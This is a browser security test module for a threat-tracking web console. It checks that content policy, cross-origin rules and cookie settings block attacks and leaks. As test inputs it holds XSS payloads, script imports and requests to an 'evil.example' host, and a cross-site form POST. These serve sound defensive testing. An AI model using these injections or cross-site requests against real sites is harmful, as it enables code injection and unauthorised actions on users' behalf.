"""What the browser keeps out: code from elsewhere, pages of other origins, and what would leak."""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Error, Page, Response, expect

from tests.api.conftest import Served
from tests.api.support import put
from tests.browser.conftest import Sit
from tests.browser.seat import Seat
from tests.support.nodes import wait_until

ID = "SECRET-THREAT-0417"
TITLE = "Payroll database of the board was read"
HEAD = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n"
ANSWER = HEAD + b"<!doctype html><p>other</p>"
ATTEMPTS = {
    "markup": "() => { document.body.innerHTML = '<img src=x onerror=window.__ran=1>'; }",
    "more markup": "() => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); }",
    "a document": "() => { document.write('<script>window.__ran=1</script>'); }",
    "a parsed document": "() => { new DOMParser().parseFromString('<b>x</b>', 'text/html'); }",
    "a frame's document": "() => { document.createElement('iframe').srcdoc = '<b>x</b>'; }",
    "a script's address": "() => { document.createElement('script').src = '//evil.example/a.js'; }",
    "a script's text": "() => { document.createElement('script').text = 'window.__ran=1'; }",
    "another policy": "() => { trustedTypes.createPolicy('mine', { createHTML: String }); }",
    "the policy again": "() => { trustedTypes.createPolicy('periscope', { createHTML: String }); }",
    "text as code": "() => { setTimeout('window.__ran=1'); }",
    "code from elsewhere": "() => import('https://evil.example/a.js')",
    "code in an address": "() => import('data:text/javascript,window.__ran=1')",
    "a request elsewhere": "() => fetch('https://evil.example/')",
    "a worker from elsewhere": "() => new Worker('data:text/javascript,1')",
}
QUIET = """() => {
  const one = document.createElement("div");
  document.body.append(one);
  one.setAttribute("style", "color: rgb(1, 2, 3)");
  const style = document.createElement("style");
  style.append("body { color: rgb(1, 2, 3) }");
  document.head.append(style);
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  const colors = [one, document.body].map((each) => getComputedStyle(each).color);
  const found = [...colors, document.baseURI];
  [one, style, base].forEach((each) => each.remove());
  return found;
}"""


class Elsewhere:
    """A site of another origin: one page for every address; `heads` are what it was asked."""

    def __init__(self) -> None:
        self.heads: list[str] = []
        self.server: asyncio.Server
        self.port = 0

    async def start(self) -> None:
        self.server = await asyncio.start_server(self._answer, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            self.heads.append((await reader.readuntil(b"\r\n\r\n")).decode())
            writer.write(ANSWER)
            await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass  # the browser opens connections that it does not use
        finally:
            writer.close()


@pytest.fixture
async def elsewhere() -> AsyncIterator[Elsewhere]:
    """Another site, while the test runs."""
    one = Elsewhere()
    await one.start()
    yield one
    one.server.close()


async def test_no_text_becomes_code_or_looks(sit: Sit) -> None:
    ada = await sit("ada")
    blocked: list[str | None] = []
    ada.page.on("requestfailed", lambda one: blocked.append(one.failure))
    for what, attempt in ATTEMPTS.items():
        with pytest.raises(Error) as refused:
            await ada.page.evaluate(attempt)
        told = str(refused.value)
        assert any(
            word in told for word in ("Trusted", "policy", "Policy", "Failed", "security")
        ), what
    color, body, base = await ada.page.evaluate(QUIET)
    assert "1, 2, 3" not in color + body
    assert base.startswith(ada.served.url)
    assert await ada.page.evaluate("() => window.__ran") is None
    assert set(blocked) <= {"csp"}, "what was asked elsewhere never left the browser"
    known = ("Trusted", "olicy", "asked elsewhere: https://evil.example/", "asked elsewhere: data:")
    assert [one for one in ada.faults if not any(word in one for word in known)] == []
    ada.faults.clear()


async def test_a_page_of_another_origin_gets_and_does_nothing(
    served: Served, sit: Sit, elsewhere: Elsewhere
) -> None:
    await put(served, ID, metadata={"title": TITLE})
    ada = await sit("ada")
    other = await ada.context.new_page()
    answers: list[Response] = []
    other.on("response", lambda one: answers.append(one))
    await other.goto(f"http://127.0.0.1:{elsewhere.port}/")
    await attack(other, served.url)
    await other.evaluate(FORM, served.url)
    await wait_until(lambda: has_form(answers), "the form was answered")
    ours = [one for one in answers if one.url.startswith(served.url + "/v1/")]
    assert {one.status for one in ours} <= {403, 405, 415}, [(one.url, one.status) for one in ours]
    found = await served.tenant.periscope.get_threat(ID)
    assert found is not None
    assert found.interactions == 0


async def has_form(answers: list[Response]) -> bool:
    return any(one.request.is_navigation_request() and "/v1/acts" in one.url for one in answers)


async def attack(other: Page, url: str) -> None:
    """All that must not work; a browser that is told no says so by an error."""
    for path in ("/v1/session", "/v1/rows", "/v1/events", "/v1/export"):
        assert await other.evaluate(READ, url + path) == "refused", path
    assert await other.evaluate(POST, url + "/v1/acts") == "refused"
    assert await other.evaluate(FRAME, url + "/console/") == "nothing"
    assert await other.evaluate(SCRIPT, url + "/v1/rows") == "refused"
    assert await other.evaluate(STREAM, url + "/v1/events") == "refused"


BODY = json.dumps({"act": "dismiss", "threat_ids": [ID]})
READ = (
    """(url) => fetch(url, { credentials: "include" }).then((one) => one.text(), () => "refused")"""
)
POST = f"""(url) => fetch(url, {{ method: "POST", credentials: "include", mode: "no-cors",
  headers: {{ "content-type": "text/plain" }}, body: {json.dumps(BODY)} }})
  .then((one) => (one.type === "opaque" ? "refused" : one.text()), () => "refused")"""
FRAME = """(url) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.src = url;
  frame.onload = () => {
    try {
      resolve(frame.contentWindow.document.body.textContent || "nothing");
    } catch {
      resolve("nothing");
    }
  };
  document.body.append(frame);
})"""
SCRIPT = """(url) => new Promise((resolve) => {
  const script = document.createElement("script");
  script.src = url;
  script.onload = () => resolve("ran");
  script.onerror = () => resolve("refused");
  document.body.append(script);
})"""
STREAM = """(url) => new Promise((resolve) => {
  const stream = new EventSource(url, { withCredentials: true });
  stream.onopen = () => resolve("opened");
  stream.onerror = () => { stream.close(); resolve("refused"); };
})"""
FORM = f"""(url) => {{
  const form = document.createElement("form");
  Object.assign(form, {{ method: "POST", action: url + "/v1/acts", enctype: "text/plain" }});
  const input = document.createElement("input");
  [input.name, input.value] = {json.dumps([BODY[:-1] + ', "note":"', '"}'])};
  form.append(input);
  document.body.append(form);
  form.submit();
}}"""


async def test_nothing_of_a_threat_leaves_or_stays(
    served: Served, sit: Sit, elsewhere: Elsewhere, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    link = f"http://evil.localhost:{elsewhere.port}/{'a' * 10}"
    await put(served, ID, content=TITLE, metadata={"title": TITLE, "references": [link]})
    ada = await sit("ada")
    await expect(ada.row(ID)).to_be_visible()
    await ada.press("Enter", "6")
    async with ada.context.expect_page() as opening:
        await ada.page.locator(f'.references a[href="{link}"]').click()
    other = await opening.value
    await other.wait_for_load_state()
    assert await other.evaluate("() => [document.referrer, window.opener]") == ["", None]
    [head] = [one for one in elsewhere.heads if "/aaaaaaaaaa " in one]
    assert "referer" not in head.lower()
    assert "cookie" not in head.lower()
    await ada.press("w")
    await ada.page.keyboard.type(TITLE)
    await assert_kept_nowhere(ada)
    assert ID not in caplog.text
    assert TITLE not in caplog.text


async def assert_kept_nowhere(seat: Seat) -> None:
    kept = await seat.page.evaluate(
        """async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie,
          await caches.keys(), await indexedDB.databases(), location.pathname, location.search,
          document.title, document.referrer, history.state, window.name])"""
    )
    assert ID not in kept
    assert TITLE not in kept
    assert "periscope=" not in kept, "the session's cookie is not to be read by scripts"
    cookies = await seat.context.cookies()
    assert [(one["httpOnly"], one["secure"], one["sameSite"]) for one in cookies] == [
        (True, True, "Strict")
    ]
